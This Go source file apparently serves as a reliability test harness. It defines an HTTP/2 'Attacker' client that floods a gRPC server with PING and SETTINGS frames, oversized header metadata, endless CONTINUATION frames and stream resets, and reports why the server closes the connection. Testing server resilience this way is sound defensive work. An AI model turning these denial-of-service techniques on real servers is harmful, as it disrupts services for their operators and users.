package reliability

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacker speaks HTTP/2 as no client would. It is for one goroutine.
type Attacker struct {
	conn   net.Conn
	framer *http2.Framer
	stream uint32
	heard  chan error
	fields bytes.Buffer
	encode *hpack.Encoder
}

// Attack opens a connection. Close ends it.
func Attack(address string) (*Attacker, error) {
	conn, err := net.Dial("tcp", address) //nolint:noctx // an attacker is not asked to hurry
	if err != nil {
		return nil, err
	}
	a := &Attacker{conn: conn, framer: http2.NewFramer(conn, conn), stream: 1, heard: make(chan error, 1)}
	a.encode = hpack.NewEncoder(&a.fields)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	if err := a.framer.WriteSettings(); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return a, nil
}

// Close closes the connection.
func (a *Attacker) Close() error { return a.conn.Close() }

// Listen reads what the server says, and keeps why it ended the connection. Without
// it nothing is ever read.
func (a *Attacker) Listen() {
	go func() {
		said := errors.New("closed")
		for {
			frame, err := a.framer.ReadFrame()
			if err != nil {
				a.heard <- said
				return
			}
			if away, ok := frame.(*http2.GoAwayFrame); ok {
				said = fmt.Errorf("%s %s", away.ErrCode, away.DebugData())
			}
		}
	}()
}

// Ended returns why the server ended the connection, or an error that says that it
// has not.
func (a *Attacker) Ended(within time.Duration) (why string, ok bool) {
	select {
	case err := <-a.heard:
		return err.Error(), true
	case <-time.After(within):
		return "", false
	}
}

// Pings sends so many.
func (a *Attacker) Pings(n int) error {
	for range n {
		if err := a.framer.WritePing(false, [8]byte{1}); err != nil {
			return err
		}
	}
	return nil
}

// SettingsFrames sends so many, each of which asks to be acknowledged.
func (a *Attacker) SettingsFrames(n int) error {
	for range n {
		if err := a.framer.WriteSettings(); err != nil {
			return err
		}
	}
	return nil
}

// Open begins a call of the method with so many bytes of metadata and does not end
// it.
func (a *Attacker) Open(method string, metadata int) error {
	a.fields.Reset()
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		if err := a.encode.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	for i := 0; metadata > 0; i++ {
		size := min(metadata, 1000)
		if err := a.encode.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: string(bytes.Repeat([]byte{'~'}, size)), Sensitive: true}); err != nil {
			return err
		}
		metadata -= size
	}
	block := a.fields.Bytes()
	const most = 16 << 10 // of one frame
	first := block[:min(len(block), most)]
	block = block[len(first):]
	if err := a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: first, EndHeaders: len(block) == 0}); err != nil {
		return err
	}
	for len(block) > 0 {
		next := block[:min(len(block), most)]
		block = block[len(next):]
		if err := a.framer.WriteContinuation(a.stream, len(block) == 0, next); err != nil {
			return err
		}
	}
	a.stream += 2
	return nil
}

// Endless begins a call whose headers never end, until the server has enough; it
// returns how many bytes it took.
func (a *Attacker) Endless(method string, most int) (sent int) {
	a.fields.Reset()
	_ = a.encode.WriteField(hpack.HeaderField{Name: ":path", Value: method})
	if a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.fields.Bytes()}) != nil {
		return 0
	}
	for sent < most {
		a.fields.Reset()
		_ = a.encode.WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'~'}, 8<<10)), Sensitive: true})
		if a.framer.WriteContinuation(a.stream, false, a.fields.Bytes()) != nil {
			return sent
		}
		sent += a.fields.Len()
	}
	return sent
}

// Reset takes back the call that was opened last.
func (a *Attacker) Reset() error {
	return a.framer.WriteRSTStream(a.stream-2, http2.ErrCodeCancel)
}
